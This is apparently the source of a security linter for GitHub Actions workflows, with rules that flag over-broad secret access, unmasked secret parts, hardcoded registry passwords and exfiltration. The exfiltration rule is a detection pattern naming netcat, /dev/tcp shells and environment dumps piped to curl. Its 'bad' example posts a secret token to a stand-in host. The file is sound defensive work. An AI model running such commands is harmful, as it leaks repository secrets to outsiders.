/* check_workflow_secrets.c - rules about secrets in workflows.  No finding shows one. */

#include "checks/workflow.h"
#include "format/command.h"

#define SECRETS_URL                                                                      \
	"https://docs.github.com/en/actions/how-tos/write-workflows/"                    \
	"choose-what-workflows-do/use-secrets"
#define SECURE_URL "https://docs.github.com/en/actions/reference/security/secure-use"

/* --- inherit -------------------------------------------------------------- */

static void run_inherit(struct check_ctx *ctx, const struct check *self, const void *doc)
{
	const struct gh_file *f = gh_file(ctx);

	(void)doc;
	for (size_t i = 0; i < f->n_jobs; i++) {
		const struct gh_job *job = &f->jobs[i];
		const struct ynode *secrets = ynode_get(job->node, "secrets");

		if (!secrets || secrets->type != YNODE_SCALAR ||
		    !str_is(secrets->text, "inherit") || !job->uses.text.len)
			continue;
		check_report(ctx, self, gh_at(secrets, NULL),
			     STR_FMT " gets every secret of this repository",
			     STR_ARG(job->uses.name));
	}
}

const struct check check_secrets_inherit = {
	.id = "WB-GH-007",
	.slug = "secrets-inherit",
	.kind = FINDING_MISCONFIGURATION,
	.severity = SEVERITY_MEDIUM,
	.on_by_default = true,
	.title = "A workflow of another repository gets all secrets",
	.why = "inherit hands over every secret that the caller has, needed or not, and "
	       "those that are added later.",
	.fix = "name the secrets that the workflow needs",
	.bad = "secrets: inherit",
	.good = "secrets: { token: \"${{ secrets.DEPLOY_TOKEN }}\" }",
	.url = SECRETS_URL,
	.on = CHECK_WORKFLOW,
	.run = run_inherit,
};

/* --- every scalar --------------------------------------------------------- */

enum { WALK_DEPTH = 128 }; /* as deep as the file was read */

typedef void scalar_fn(struct check_ctx *ctx, const struct check *self,
		       const struct ynode *v);

static void each_scalar(struct check_ctx *ctx, const struct check *self,
			const struct ynode *v, unsigned depth, scalar_fn *fn)
{
	if (v->type == YNODE_SCALAR) {
		fn(ctx, self, v);
		return;
	}
	ynode_each (child, v)
		if (depth)
			each_scalar(ctx, self, child, depth - 1, fn);
}

/* The next expression that has a context "secrets", alone or with a computed index. */
static void secrets_all(struct check_ctx *ctx, const struct check *self,
			const struct ynode *v)
{
	struct str inner;
	struct gh_context c;
	struct gh_lines lines = gh_lines(ctx, v);
	size_t from = 0, offset;

	while (gh_next_expression(v->text, &from, &inner, &offset)) {
		struct gh_before before = { false, false };
		struct check_at at = gh_at(v, NULL);

		at.line = at.end_line = gh_line(&lines, offset);
		while (gh_next_context(&inner, &before, &c)) {
			if (str_is(str_of(c.path), "secrets"))
				check_report(ctx, self, at,
					     "all secrets are put into one text");
			else if (c.computed && gh_path_matches(c.path, "secrets.*"))
				check_report(ctx, self, at,
					     "which secret this is, the job computes, so "
					     "it gets all of them");
		}
	}
}

static void run_secrets_all(struct check_ctx *ctx, const struct check *self,
			    const void *doc)
{
	each_scalar(ctx, self, doc, WALK_DEPTH, secrets_all);
}

const struct check check_secrets_all = {
	.id = "WB-GH-008",
	.slug = "secrets-all",
	.aliases = "overprovisioned-secrets",
	.kind = FINDING_MISCONFIGURATION,
	.severity = SEVERITY_HIGH,
	.on_by_default = true,
	.title = "The job gets every secret of the repository",
	.why = "A runner is given the secrets that the workflow names; with toJSON() or "
	       "a computed name it is given all, and any step can take them.",
	.fix = "name each secret that the job needs",
	.bad = "env: { ALL: \"${{ toJSON(secrets) }}\" }",
	.good = "env: { TOKEN: \"${{ secrets.DEPLOY_TOKEN }}\" }",
	.url = SECRETS_URL,
	.on = CHECK_WORKFLOW,
	.run = run_secrets_all,
};

/* True when a member of fromJSON(secrets.X) is taken. */
static bool takes_member(struct str inner)
{
	struct str head = STR("fromJSON(");

	for (;;) {
		size_t hit = 0, end;

		while (hit < inner.len &&
		       !str_starts_with_nocase(str_from(inner, hit), head))
			hit++;
		if (hit >= inner.len)
			return false;
		inner = str_trim_left(str_from(inner, hit + head.len));
		if (!str_starts_with_nocase(inner, STR("secrets.")) &&
		    !str_starts_with_nocase(inner, STR("secrets[")))
			continue;
		end = str_find_char(inner, ')');
		if (end == STR_NONE)
			return false;
		inner = str_trim_left(str_from(inner, end + 1));
		if (str_starts_with(inner, STR(".")) || str_starts_with(inner, STR("[")))
			return true;
	}
}

static void unredacted(struct check_ctx *ctx, const struct check *self,
		       const struct ynode *v)
{
	struct gh_lines lines = gh_lines(ctx, v);
	struct str inner;
	size_t from = 0, offset;

	while (gh_next_expression(v->text, &from, &inner, &offset)) {
		struct check_at at = gh_at(v, NULL);

		if (!takes_member(inner))
			continue;
		at.line = at.end_line = gh_line(&lines, offset);
		check_report(ctx, self, at,
			     "a part of a secret is taken, which logs do not mask");
	}
}

static void run_unredacted(struct check_ctx *ctx, const struct check *self,
			   const void *doc)
{
	each_scalar(ctx, self, doc, WALK_DEPTH, unredacted);
}

const struct check check_secret_unredacted = {
	.id = "WB-GH-026",
	.slug = "secret-unredacted",
	.aliases = "unredacted-secrets",
	.kind = FINDING_MISCONFIGURATION,
	.severity = SEVERITY_MEDIUM,
	.on_by_default = true,
	.title = "A part of a secret is not masked in logs",
	.why = "Logs mask the whole text of a secret; a member of it taken with "
	       "fromJSON() is another text and is shown.",
	.fix = "store each value as a secret of its own",
	.bad = "env: { P: \"${{ fromJSON(secrets.DB).password }}\" }",
	.good = "env: { P: \"${{ secrets.DB_PASSWORD }}\" }",
	.url = SECURE_URL "#use-secrets-for-sensitive-information",
	.on = CHECK_WORKFLOW,
	.run = run_unredacted,
};

/* --- environments --------------------------------------------------------- */

static const struct ynode *first_secret(const struct ynode *v, unsigned depth)
{
	struct str inner;
	struct gh_context c;
	size_t from = 0, offset;

	if (v->type != YNODE_SCALAR) {
		ynode_each (child, v) {
			const struct ynode *hit =
				depth ? first_secret(child, depth - 1) : NULL;

			if (hit)
				return hit;
		}
		return NULL;
	}
	while (gh_next_expression(v->text, &from, &inner, &offset)) {
		struct gh_before before = { false, false };

		while (gh_next_context(&inner, &before, &c))
			if (gh_path_matches(c.path, "secrets.*") &&
			    !str_is(str_of(c.path), "secrets.github_token"))
				return v;
	}
	return NULL;
}

static void run_outside_env(struct check_ctx *ctx, const struct check *self,
			    const void *doc)
{
	const struct gh_file *f = gh_file(ctx);

	(void)doc;
	for (size_t i = 0; i < f->n_jobs; i++) {
		const struct ynode *job = f->jobs[i].node;
		const struct ynode *v = ynode_get(job, "environment")
						? NULL
						: first_secret(job, WALK_DEPTH);

		if (v)
			check_report(ctx, self, gh_at(v, NULL),
				     "job " STR_FMT " uses a secret and no environment",
				     STR_ARG(job->key));
	}
}

const struct check check_secrets_outside_env = {
	.id = "WB-GH-022",
	.slug = "secrets-outside-env",
	.aliases = "unredacted-secrets", /* of zizmor, which has both in one */
	.kind = FINDING_MISCONFIGURATION,
	.severity = SEVERITY_LOW,
	.on_by_default = false,
	.title = "Secret without a deployment environment",
	.why = "A secret of the repository is there for every workflow on every branch; "
	       "one of an environment only where its rules allow.",
	.fix = "keep the secret in an environment and name it in the job",
	.bad = "a job with ${{ secrets.DEPLOY_TOKEN }}",
	.good = "the same with environment: production",
	.url = SECURE_URL,
	.on = CHECK_WORKFLOW,
	.traits = CHECK_INFO,
	.run = run_outside_env,
};

/* --- containers ----------------------------------------------------------- */

static void judge_container(struct check_ctx *ctx, const struct check *self,
			    const struct ynode *container)
{
	const struct ynode *password =
		ynode_get(ynode_get(container, "credentials"), "password");

	if (!password || password->type != YNODE_SCALAR || !password->text.len ||
	    gh_has_expression(password->text))
		return;
	check_report(ctx, self, gh_at(password, NULL),
		     "the password for the registry stands in the workflow");
}

static void run_container_credentials(struct check_ctx *ctx, const struct check *self,
				      const void *doc)
{
	const struct gh_file *f = gh_file(ctx);

	(void)doc;
	for (size_t i = 0; i < f->n_jobs; i++) {
		const struct ynode *job = f->jobs[i].node;

		judge_container(ctx, self, ynode_get(job, "container"));
		ynode_each (service, ynode_get(job, "services"))
			judge_container(ctx, self, service);
	}
}

const struct check check_container_credentials = {
	.id = "WB-GH-011",
	.slug = "container-credentials",
	.aliases = "hardcoded-container-credentials",
	.kind = FINDING_SECRET,
	.severity = SEVERITY_HIGH,
	.on_by_default = true,
	.title = "Password of a registry in a workflow",
	.why = "Everybody who can read the repository, now or later, has it.",
	.fix = "make it a secret and write ${{ secrets.NAME }}; change the password",
	.bad = "credentials: { username: me, password: hunter2 }",
	.good = "credentials: { username: me, password: \"${{ secrets.REGISTRY }}\" }",
	.url = SECURE_URL,
	.on = CHECK_WORKFLOW,
	.run = run_container_credentials,
};

/* --- sending away --------------------------------------------------------- */

static bool is_address(struct str w)
{
	size_t dots = 0;

	for (size_t i = 0; i < w.len; i++) {
		if (w.ptr[i] != '.' && !is_digit(w.ptr[i]))
			return false;
		dots += w.ptr[i] == '.';
	}
	return dots == 3 && !str_starts_with(w, STR("127.")) && !str_is(w, "0.0.0.0");
}

static bool has_secret(struct str word)
{
	return str_find(word, STR("$S_")) != STR_NONE;
}

static bool is_data_flag(struct str w)
{
	return word_in(w,
		       "-d --data --data-raw --data-binary --data-urlencode -F --form "
		       "--form-string --json -T --upload-file --post-data --body-data");
}

/* A secret in the body that is sent; in a header or URL it opens a door. */
static bool sends_secret(const struct sh_command *c)
{
	if (!word_in(c->name, "curl wget"))
		return false;
	for (size_t i = 1; i < c->n_words; i++) {
		struct str w = c->words[i].text, flag, value;

		if (i && is_data_flag(c->words[i - 1].text) && has_secret(w))
			return true;
		if (str_cut(w, '=', &flag, &value) && is_data_flag(flag) &&
		    has_secret(value))
			return true;
	}
	return false;
}

static const char *sends_away(const struct sh_script *script, size_t i)
{
	const struct sh_command *c = &script->commands[i];
	const struct sh_command *before = i ? c - 1 : NULL;

	if (word_in(c->name, "nc ncat netcat"))
		for (size_t k = 1; k < c->n_words; k++)
			if (is_address(c->words[k].text))
				return "a connection to a bare address is opened";
	if (str_starts_with(c->redirect_out, STR("/dev/tcp/")) ||
	    str_starts_with(c->redirect_in, STR("/dev/tcp/")))
		return "a shell is tied to a connection";
	if (before && (c->flags & SH_IN_PIPE) && before->pipeline == c->pipeline &&
	    word_in(before->name, "env printenv") && before->n_words == 1 &&
	    word_in(c->name, "curl wget nc ncat"))
		return "the whole environment is sent away";
	if (sends_secret(c))
		return "a secret is sent in the body of a request";
	return NULL;
}

static void exfiltration(struct check_ctx *ctx, const struct check *self,
			 const struct gh_step *step, const struct sh_script *script,
			 size_t i)
{
	const char *what = sends_away(script, i);

	if (what)
		check_report(ctx, self, gh_at_command(step, &script->commands[i]), "%s",
			     what);
}

static void run_exfiltration(struct check_ctx *ctx, const struct check *self,
			     const void *doc)
{
	(void)doc;
	gh_each_command(ctx, self, exfiltration);
}

const struct check check_exfiltration = {
	.id = "WB-GH-018",
	.slug = "exfiltration",
	.aliases = "CKV_GHA_3 CKV_GHA_4",
	.kind = FINDING_MISCONFIGURATION,
	.severity = SEVERITY_HIGH,
	.on_by_default = true,
	.title = "A script sends secrets or a shell to another place",
	.why = "This is how a workflow that somebody tampered with takes secrets out.",
	.fix = "look who wrote it; give tokens in a header, to a host that you know",
	.bad = "run: curl -d \"${{ secrets.TOKEN }}\" https://a.example/",
	.good = "run: curl -H \"Authorization: Bearer $TOKEN\" https://api.example/",
	.url = "https://www.checkov.io/5.Policy%20Index/github_actions.html",
	.on = CHECK_WORKFLOW,
	.run = run_exfiltration,
};
